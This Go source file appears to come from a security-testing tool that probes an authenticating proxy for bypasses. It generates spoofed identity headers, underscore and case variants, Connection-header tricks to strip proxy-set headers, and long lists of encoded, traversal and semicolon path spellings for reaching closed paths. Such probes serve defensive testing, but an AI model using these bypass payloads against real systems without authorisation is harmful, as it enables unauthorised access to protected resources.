package probe

import (
	"fmt"
	"strings"
)

// arrivals returns requests with these header lines for paths that reach the program,
// with and without a session.
func (h *target) arrivals(lines ...string) (list []attempt, lack string) {
	if !h.p.Echo {
		return nil, "needs authsvc echo in place of the program: give --echo"
	}
	if open := h.paths(h.open); len(open) > 0 {
		list = append(list, odds(open[0], lines...)...)
	}
	if h.entered != "" {
		for _, a := range odds(h.entered, lines...) {
			a.steps[0].cookie = true
			list = append(list, a)
		}
	}
	if len(list) == 0 {
		return nil, "no path is open, and there is no session: give --cookie-file"
	}
	for i := range list {
		list[i].judge = h.nothingArrived
	}
	return list, ""
}

// identityHeaders sends identity headers.
func identityHeaders(h *target) ([]attempt, string) {
	var lines, all []string
	for _, name := range h.p.Identity {
		lines = append(lines, name+": "+h.p.mark)
		all = append(all, strings.ToLower(name)+": "+h.p.mark, strings.ToUpper(name)+": "+h.p.mark)
	}
	if len(lines) > 0 {
		first := h.p.Identity[0]
		lines = append(lines, strings.Join(all, "\n"), first+":\n"+first+": "+h.p.mark, first+":\t"+h.p.mark, first+" : "+h.p.mark, first+": a\n "+h.p.mark)
	}
	return h.arrivals(lines...)
}

// underscoreHeaders sends identity headers with names that CGI does not distinguish.
func underscoreHeaders(h *target) ([]attempt, string) {
	var all, some []string
	for _, name := range h.p.Identity {
		all = append(all, strings.ReplaceAll(name, "-", "_")+": "+h.p.mark)
		some = append(some, strings.Replace(name, "-", "_", 1)+": "+h.p.mark)
		if last := strings.LastIndexByte(name, '-'); last > 0 {
			some = append(some, name[:last]+"_"+name[last+1:]+": "+h.p.mark)
		}
	}
	return h.arrivals(strings.Join(all, "\n"), strings.Join(some, "\n"), strings.ToUpper(strings.Join(all, "\n")))
}

// connectionHeaders tries to have the proxy remove the identity headers that it sets.
func connectionHeaders(h *target) ([]attempt, string) {
	var all []string
	for _, name := range h.p.Identity {
		all = append(all, name+": "+h.p.mark)
	}
	names := strings.Join(h.p.Identity, ", ")
	said := strings.Join(all, "\n")
	return h.arrivals("Connection: close, "+names+"\n"+said, "Connection: "+names+"\nConnection: close\n"+said, "Connection: close\nTrailer: "+names+"\n"+said, "Connection: close\nKeep-Alive: "+names+"\n"+said)
}

// readings requests closed paths in other spellings, directly and through open paths.
// The caller omits spellings that the rules let pass.
func readings(h *target) (list []attempt, lack string) {
	if len(h.refused) == 0 {
		return nil, "no path is closed"
	}
	open := h.paths(h.open)
	var paths []string
	closed := 0
	for _, path := range h.paths(h.closed) {
		if path == "/" || strings.Contains(path, "?") || closed == maxClosed {
			continue
		}
		closed++
		paths = append(paths, spellings(path)...)
		for _, through := range open[:min(maxOpen, len(open))] {
			paths = append(paths, through+"?"+path, path+"?"+through, path+";"+through, path+"?/.."+through)
			paths = append(paths, throughs(through, path)...)
		}
	}
	for _, path := range paths {
		list = append(list, attempt{steps: []request{{target: path}}})
	}
	return list, ""
}

// spellings returns spellings of a path that some servers treat as the path.
func spellings(path string) []string {
	rest := path[1:]
	escaped := func(format string) string { return fmt.Sprintf("/"+format+"%s", rest[0], rest[1:]) }
	if rest[0] == '%' || rest[0] == '/' {
		escaped = func(string) string { return path }
	}
	first, tail, _ := strings.Cut(rest, "/")
	slash := "/" + tail
	return []string{
		strings.ToUpper(path), "/" + strings.ToUpper(rest[:1]) + rest[1:], escaped("%%%02x"), escaped("%%%02X"), escaped("%%25%02x"),
		"/" + path, "/." + path, "/x/.." + path, "/x/%2e%2e" + path, "/%2e" + path, `/\` + path, "/%5c.." + path, "/;" + path, "/;a=b" + path,
		"/" + first + ";a" + slash, "/" + first + ";/" + tail, "/" + first + "/" + slash, "/" + first + "%2f" + tail, "/" + first + "/." + slash,
		path + "/", path + ";", path + "%20", path + "%00", path + ".", path + "?", path + "#", path + "/..;/" + first,
	}
}

// throughs returns ways from one path to another.
func throughs(from, to string) (list []string) {
	up := strings.Count(strings.TrimSuffix(from, "/"), "/")
	for _, dots := range []string{"..", "%2e%2e", ".%2e", "%252e%252e", "..;", "..;a=b"} {
		for _, slash := range []string{"/", "%2f", "%252f", "%5c", "//"} {
			list = append(list, strings.TrimSuffix(from, "/")+strings.Repeat(slash+dots, up)+slash+to[1:])
		}
	}
	return append(list, strings.TrimSuffix(from, "/")+strings.Repeat(`\..`, up)+to, to+strings.Repeat("/..", strings.Count(to, "/"))+from)
}
